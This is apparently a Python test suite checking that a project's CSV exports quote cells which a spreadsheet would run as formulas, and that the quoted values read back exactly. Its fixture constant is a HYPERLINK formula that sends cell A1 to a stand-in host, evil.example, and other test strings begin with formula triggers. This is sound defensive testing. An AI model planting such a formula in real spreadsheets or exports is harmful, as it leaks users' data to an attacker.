"""CSV cells a spreadsheet will not run as formulas: every CSV sweep writes, and the
round trip of the ones sweep reads back (per_query.csv, a labelled judge_sample.csv)."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from sweep.answers.humancheck import export_sample, read_labels
from sweep.answers.output import write_outputs
from sweep.answers.records import AnswerTrace
from sweep.answers.replies import JudgeVerdict
from sweep.answers.summary import summarize_answers
from sweep.core.csvcells import TRIGGERS, neutralise, neutralise_frame, restore
from sweep.reporting.frames import write_results
from sweep.scoring.table import ScoreTable
from sweep.store.traces import Retrieved

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
# Text that starts like a formula or like one quoted already, numbers, plain text.
texts = st.one_of(
    st.text(),
    st.builds(
        lambda quotes, trigger, rest: "'" * quotes + trigger + rest,
        st.integers(0, 3),
        st.sampled_from(TRIGGERS + ("",)),
        st.text(),
    ),
    st.floats(allow_nan=False).map(repr),
    st.integers().map(str),
)


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula."""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return cell.strip().lower().lstrip("+-") in ("inf", "infinity", "nan")


@given(texts)
def test_every_text_comes_back_exactly_and_no_cell_is_a_formula(text):
    cell = neutralise(text)
    assert restore(cell) == text
    assert not _formula(cell)
    assert cell == text or cell == "'" + text


@given(texts, texts)
def test_different_texts_stay_different_cells(a, b):
    if a != b:
        assert neutralise(a) != neutralise(b)


def test_which_cells_are_quoted():
    for text in (FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "-inf"):
        assert neutralise(text) == "'" + text
    for text in ("-0.05", "+3", "1e-5", "-.5", "plain", "", "a=b", "'quoted"):
        assert neutralise(text) == text
    assert neutralise("'=1") == "''=1" and restore("''=1") == "'=1"
    assert restore("'plain") == "'plain"  # never quoted by sweep: left as it is


def test_results_csv_quotes_text_and_keeps_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "job": [0, 1],
            "setting": [FORMULA, "size=128"],
            "diff": [-0.05, 0.25],
            "note": [None, "-x"],
        }
    )
    write_results(tmp_path / "results.csv", df)
    rows = list(csv.DictReader(open(tmp_path / "results.csv", newline="", encoding="utf-8")))
    assert rows[0]["setting"] == "'" + FORMULA and rows[1]["setting"] == "size=128"
    assert rows[0]["diff"] == "-0.05" and rows[1]["note"] == "'-x" and rows[0]["note"] == ""
    assert df["setting"][0] == FORMULA  # the frame itself is not changed
    assert list(neutralise_frame(df)["diff"]) == [-0.05, 0.25]


@given(st.lists(texts, min_size=1, max_size=6, unique=True))
def test_per_query_csv_round_trip(tmp_path_factory, query_ids):
    path = tmp_path_factory.mktemp("pq") / "per_query.csv"
    n = len(query_ids)
    table = ScoreTable(
        tuple(query_ids),
        ("recall@5",),
        np.arange(n, dtype=np.int64),
        np.zeros(n, dtype=np.int8),
        np.zeros(n, dtype=np.int64),
        np.linspace(0, 1, n),
    )
    table.write_csv(path)
    with open(path, newline="", encoding="utf-8") as f:
        cells = [row[0] for row in csv.reader(f)][1:]
    assert not any(_formula(c) for c in cells)
    again = ScoreTable.read_csv(path)
    assert list(again.rows()) == list(table.rows())


def _trace(job: int, query_id: str, answer: str) -> AnswerTrace:
    context = (Retrieved(1, "a.md#0", "a.md", 0, 5, 1, 0.9, "-1 is the answer"),)
    return AnswerTrace(
        job,
        "+size=64",
        query_id,
        "@what?",
        "fact",
        "=1+1",
        (),
        context,
        "complete",
        answer,
        False,
        {
            "faithful": JudgeVerdict(False, "not in context"),
            "relevant": JudgeVerdict(True, "ok"),
            "correct": JudgeVerdict(True, "ok"),
        },
        diagnosis="unfaithful",
    )


def test_judge_sample_is_safe_to_open_and_its_labels_read_back(tmp_path):
    traces = [_trace(0, "=q1", FORMULA), _trace(1, "-q2", "fine")]
    path = tmp_path / "judge_sample.csv"
    assert export_sample(path, traces, 6) == 6
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert not any(_formula(c) for row in rows for c in row)
    assert any(c == "'" + FORMULA for row in rows for c in row)
    # A person labels it (as a spreadsheet saves it: the quoted cells as they were).
    with open(path, newline="", encoding="utf-8") as f:
        labelled = list(csv.DictReader(f))
    for r in labelled:
        r["label"] = "yes"
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(labelled[0]))
        w.writeheader()
        w.writerows(labelled)
    assert {(judge, job, qid) for judge, job, qid, _ in read_labels(path)} == {
        (j, t.job, t.query_id) for t in traces for j in t.verdicts
    }


def test_answers_csv_quotes_a_setting_label(tmp_path):
    traces = [_trace(0, "q1", FORMULA)]
    write_outputs(
        tmp_path,
        traces,
        summarize_answers(traces, n_boot=50),
        [],
        {0: "+size=64"},
        stats={
            "sent": 1,
            "cached": 0,
            "failed": 0,
            "retries": 0,
            "prompt_tokens": 1,
            "completion_tokens": 1,
        },
    )
    (row,) = csv.DictReader(open(tmp_path / "answers.csv", newline="", encoding="utf-8"))
    assert row["setting"] == "'+size=64" and float(row["faithful"]) == 0.0


@given(st.lists(texts, min_size=1, max_size=5))
def test_a_frame_written_reads_back_exactly(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("frame") / "results.csv"
    df = pd.DataFrame({"setting": values, "diff": [-0.05] * len(values)})
    write_results(path, df)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [restore(r["setting"]) for r in rows] == values  # a carriage return included
    assert all(not _formula(r["setting"]) and r["diff"] == "-0.05" for r in rows)
